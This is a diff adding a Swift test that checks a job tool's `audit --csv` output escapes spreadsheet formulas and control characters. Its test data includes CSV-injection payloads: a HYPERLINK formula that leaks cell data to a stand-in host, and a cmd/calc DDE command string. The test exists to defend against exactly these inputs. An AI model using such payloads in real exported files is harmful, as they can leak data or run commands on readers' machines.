@@ -128,6 +128,86 @@ import TestSupport
         }
     }
 
+    /// `audit --csv` is opened by spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` as a
+    /// formula: a server's hash or error message written there as it came was CSV injection, and its
+    /// control characters (ESC, a line break) reached the terminal or split the row. Now such a field
+    /// gets a `'` in front (so does one already starting with `'`, so one `'` off gives the value back),
+    /// a plain integer (an error code) stays a number, control characters are shown as `\u{…}`, and
+    /// `--json` keeps every value exactly.
+    @Test func auditCSVNeutralizesFormulasAndControlCharacters() throws {
+        let workspace = try CLIWorkspace("terminal-safety-csv")
+        defer { workspace.directory.remove() }
+        let store = try EventStore(path: workspace.database)
+        let now = Clock.nowMs()
+        let worker = "worker:test:1"
+        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"click")"#
+        let ids = try store.submit([
+            JobSpec(kind: .downloadMemory, source: "gs://bucket/a", maxSize: 1024, maxAttempts: 1),
+            JobSpec(kind: .downloadMemory, source: "gs://bucket/b", maxSize: 1024, maxAttempts: 1),
+        ], actor: "cli:test", now: now).map(\.id)
+        var claim = try #require(try store.claim(owner: worker, queues: nil, limit: 1, leaseMs: 60_000, now: now).first)
+        let object = StorageObject(bucket: "bucket", name: "a", size: 2, md5Hash: formula, crc32c: "+Ab1Cg==")
+        try store.append(PendingEvent(jobID: ids[0], type: .started, actor: worker, leaseToken: claim.token, data: EventData(attempt: 1)), now: now)
+        try store.append(PendingEvent(jobID: ids[0], type: .succeeded, actor: worker, leaseToken: claim.token,
+                                      data: EventData(result: JobResult(object: object, data: Data("hi".utf8)))), now: now + 1)
+        claim = try #require(try store.claim(owner: worker, queues: nil, limit: 1, leaseMs: 60_000, now: now + 2).first)
+        let message = "@SUM(1+1)*cmd|' /C calc'!A0\n\u{1B}[31mred\r\tx"
+        let error = StorageError(.unauthorized, message, httpStatus: 403, url: "gs://bucket/b", retryable: false)
+        try store.append(PendingEvent(jobID: ids[1], type: .started, actor: worker, leaseToken: claim.token, data: EventData(attempt: 1)), now: now + 2)
+        try store.append(PendingEvent(jobID: ids[1], type: .failed, actor: worker, leaseToken: claim.token,
+                                      data: EventData(attempt: 1, error: error)), now: now + 3)
+
+        let csv = try workspace.jobctl(["audit", "--csv"])
+        #expect(csv.status == 0, "\(csv.stderr)")
+        #expect(Self.controls(in: csv.stdout).isEmpty, "audit --csv sent \(Self.controls(in: csv.stdout)):\n\(csv.stdout)")
+        let lines = csv.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast().map(String.init)
+        #expect(lines.count == 3, "one line a row:\n\(csv.stdout)")
+        let header = try #require(lines.first).split(separator: ",").map(String.init)
+        for line in lines.dropFirst() {
+            let fields = Self.csvFields(line)
+            #expect(fields.count == header.count, "\(line)")
+            for field in fields where field.first.map({ "=+-@\t\r".contains($0) }) == true {
+                #expect(Int(field) != nil, "a spreadsheet would run \(field.debugDescription) as a formula:\n\(line)")
+            }
+            let row = Dictionary(uniqueKeysWithValues: zip(header, fields))
+            if row["id"] == ids[0] {
+                #expect(row["md5"] == "'" + formula, "\(line)")
+                #expect(row["crc32c"] == "'+Ab1Cg==", "\(line)")
+            } else {
+                #expect(row["error_message"] == #"'@SUM(1+1)*cmd|' /C calc'!A0\u{A}\u{1B}[31mred\u{D}\u{9}x"#, "\(line)")
+                #expect(row["error_code"].flatMap { Int($0) } == StorageErrorCode.unauthorized.rawValue, "\(line)")
+            }
+        }
+        let rows = try #require(try workspace.json(["audit", "--json"]) as? [[String: Any]])
+        #expect(rows.first { $0["id"] as? String == ids[0] }?["md5"] as? String == formula)
+        let failed = try #require(rows.first { $0["id"] as? String == ids[1] }?["error"] as? [String: Any])
+        #expect(failed["message"] as? String == message)
+    }
+
+    /// The fields of one RFC 4180 line.
+    static func csvFields(_ line: String) -> [String] {
+        var fields: [String] = [], field = "", quoted = false, characters = Array(line), index = 0
+        while index < characters.count {
+            let character = characters[index]
+            if quoted {
+                if character == "\"" {
+                    if index + 1 < characters.count && characters[index + 1] == "\"" { field.append("\""); index += 1 } else { quoted = false }
+                } else {
+                    field.append(character)
+                }
+            } else if character == "\"" {
+                quoted = true
+            } else if character == "," {
+                fields.append(field)
+                field = ""
+            } else {
+                field.append(character)
+            }
+            index += 1
+        }
+        return fields + [field]
+    }
+
     /// An error quoting what was typed stays one line: a line break in a path or an id is shown as
     /// `\u{A}`, so it cannot fake a line of output (a second "Error:" or a success) after it.
     @Test func typedValuesCannotBreakAnErrorsLine() throws {
